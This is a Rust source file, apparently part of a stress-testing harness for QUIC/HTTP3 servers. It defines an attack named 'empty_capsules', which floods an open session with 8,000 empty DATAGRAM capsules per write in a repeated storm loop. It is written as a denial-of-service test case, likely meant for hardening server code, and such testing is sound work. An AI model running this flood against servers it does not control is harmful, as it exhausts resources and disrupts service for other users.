//! Empty DATAGRAM capsules in a session, two bytes each.

use quinn_proto::StreamId;

use crate::attacker::{Attack, Attacker};
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new("empty_capsules", "empty DATAGRAM capsules", run);

fn run(a: &mut Attacker) {
    let path = a.kind.open_session();
    let capsules = wire::data(&wire::frame(0x00, b"").repeat(8_000));
    a.storm(|conn, held: &mut Option<StreamId>| {
        if let Some(session) = conn.session(held, path)
            && conn.takes(session)
        {
            conn.write(session, &capsules);
            conn.ops += 8_000;
        }
    });
}
